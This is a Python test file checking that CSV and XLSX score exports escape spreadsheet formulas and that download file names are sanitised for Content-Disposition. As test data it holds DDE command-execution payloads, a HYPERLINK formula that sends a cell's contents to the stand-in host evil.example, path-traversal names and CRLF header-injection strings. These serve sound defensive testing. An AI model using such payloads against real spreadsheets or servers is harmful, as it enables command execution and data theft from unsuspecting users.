"""Exports are safe to open: text that a spreadsheet program would run as a
formula (a customer's comment "=HYPERLINK(...)", DDE's "=cmd|...") stays
text in CSV and XLSX, and a download's file name (a unit's code with quotes
or a line break) cannot break its Content-Disposition header (RFC 6266)."""
from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from openpyxl import Workbook, load_workbook

from routing.web.downloads import content_disposition
from scoring.reports.spreadsheet_cells import append_xlsx_row, csv_row
from support.records import Records
from support.score_pages import person, ref

# Each begins as a formula would: = + - @ tab, carriage return, line feed; DDE; a formula after a tab.
FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
            "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "-", "+86 *******5678"]
PLAIN = ["The teller was rude.", "柜员态度很差", "-6", "+12.5", "12", " =1+1", "a=1", "", None, 5, -6, 1.5]


def test_csv_cells_that_would_be_formulas_get_an_apostrophe_and_the_rest_are_untouched():
    assert csv_row(FORMULAS) == ["'" + text for text in FORMULAS]
    assert csv_row(PLAIN) == PLAIN


def test_workbook_cells_keep_the_text_as_written_but_typed_as_text():
    book = Workbook()
    append_xlsx_row(book.active, FORMULAS + PLAIN + ["bell\x07 and NUL\x00"])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    formulas, plain, control = cells[:len(FORMULAS)], cells[len(FORMULAS):-1], cells[-1]
    assert [c.value for c in formulas] == FORMULAS  # a CR too: written through lxml as &#13;, it reads back
    assert all(c.data_type == "s" and c.quotePrefix for c in formulas)
    assert [c.value for c in plain][:6] == PLAIN[:6] and not any(c.data_type == "f" for c in plain)
    assert control.value == "bell\ufffd and NUL\ufffd"  # a workbook cannot hold them at all


@pytest.fixture
def odd_unit(session, clock):
    """An outlet whose code holds a quote and a line break (made before the
    API checked codes) and a rating whose comment is a formula."""
    rec = Records(session)
    hq = rec.unit("HQ", level="company")
    outlet = rec.unit('O"1\r\nX', hq)
    outlet.name = "=HYPERLINK(\"http://evil.example\")"
    rating = rec.rating(outlet, "2026-10-05 10:00", 2)
    rating.comment = "=cmd|' /C calc'!A0"
    executive = person(session, clock, "boss", "executive", hq, "Boss")
    session.commit()
    return outlet.id, ref(executive)


def drilldown(client, unit_id, fmt):
    return client.get(f"/scores/drilldown?kind=unit&id={unit_id}&period=2026-10&metric=satisfaction_rate"
                      f"&format={fmt}&lang=en")


def test_a_drilldown_csv_of_a_unit_with_a_line_break_in_its_code_downloads_with_safe_cells(
        client, login, odd_unit):
    unit_id, boss = odd_unit
    login(boss)
    response = drilldown(client, unit_id, "csv")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and disposition.count('"') == 2
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == 'satisfaction_rate-O"1_X-2026-10.csv'
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    comment = rows[1][rows[0].index("comment")]
    assert comment == "'=cmd|' /C calc'!A0"

    book = load_workbook(io.BytesIO(drilldown(client, unit_id, "xlsx").data))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("comment") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)


def test_the_scorecards_export_keeps_a_unit_name_that_looks_like_a_formula_as_text(client, login, odd_unit):
    unit_id, boss = odd_unit
    login(boss)
    response = client.get("/scores/export.csv?period=2026-10&level=outlet&lang=en")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    names = [row[rows[0].index("Name")] for row in rows[1:]]
    assert names == ["'=HYPERLINK(\"http://evil.example\")"]
    book = load_workbook(io.BytesIO(client.get("/scores/export.xlsx?period=2026-10&level=outlet").data))
    cell = book.worksheets[0]["C2"]
    assert (cell.value, cell.data_type) == ("=HYPERLINK(\"http://evil.example\")", "s")


@pytest.mark.parametrize("name, plain, full", [
    ("report-2026-Q3.pdf", "report-2026-Q3.pdf", "report-2026-Q3.pdf"),
    ('a"b\r\nc.csv', "a_b_c.csv", "a%22b_c.csv"),
    ("-rf .csv", "rf_.csv", "-rf%20.csv"),
    ("质量报告-2026.pdf", "2026.pdf", "%E8%B4%A8%E9%87%8F%E6%8A%A5%E5%91%8A-2026.pdf"),
    ("../../etc/passwd", "etc_passwd", ".._.._etc_passwd"),
    ("\r\n", "download", "download"), ("..", "download", "download"),
])
def test_a_file_name_is_written_as_rfc_6266_says(name, plain, full):
    header = content_disposition(name)
    assert header == f"attachment; filename=\"{plain}\"; filename*=UTF-8''{full}"
    assert content_disposition(name, inline=True).startswith("inline; ")
